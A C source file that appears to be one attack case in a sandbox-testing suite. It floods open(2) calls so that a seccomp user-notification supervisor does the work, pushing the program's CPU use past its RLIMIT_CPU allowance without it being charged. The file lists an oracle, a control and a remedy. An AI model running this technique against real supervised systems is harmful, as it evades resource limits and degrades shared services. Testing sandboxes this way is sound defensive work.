// SPDX-License-Identifier: MIT
/*
 * notification-storm.c - somebody else does the work.
 *
 * Goal:  more of the processor than the exercise allows, and hardly any of it one's own.
 * Means: each call that a supervisor decides on takes it a wake-up, a look at our memory and an
 *        answer, and us no time at all: we wait. RLIMIT_CPU is charged with our part. The file is
 *        our own and the answer is always yes. It ends by the clock that RLIMIT_CPU looks at, our own, below
 *        what the exercise allows: so it shows who else works for us, on a processor of any speed.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <time.h>
#include <unistd.h>

#define OWN_MS  900 /* of the second that is allowed */
#define SECONDS 9
#define BATCH	64

static long ms(clockid_t clock)
{
	struct timespec t;

	clock_gettime(clock, &t);
	return (long)t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static enum claim run(const struct brief *b)
{
	long end = ms(CLOCK_MONOTONIC) + SECONDS * 1000;

	attempting(b);
	while (ms(CLOCK_PROCESS_CPUTIME_ID) < OWN_MS && ms(CLOCK_MONOTONIC) < end) {
		for (int i = 0; i < BATCH; i++) {
			int fd = open(b->name, O_RDWR | O_CREAT | O_CLOEXEC, 0600);

			if (fd < 0)
				return denied("open");
			close(fd);
		}
	}
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "more time of the processor than allowed, most of it the supervisor's",
	.means = "calls of open(2) on which the supervisor decides, in 0.9 s of one's own time",
	.oracle = "usage:cpu",
	.control = "notify",
	.needs = NEED_NOTIFY,
	.id = "CPU-13",
	.attack_id = "T1499.003, CWE-400,CWE-406",
	.remedy = "the supervisor's time counts as the program's; a wall clock; kernel rules",
	.refs = (const char *const[]){ "seccomp_unotify(2)", NULL },
	.run = run,
};
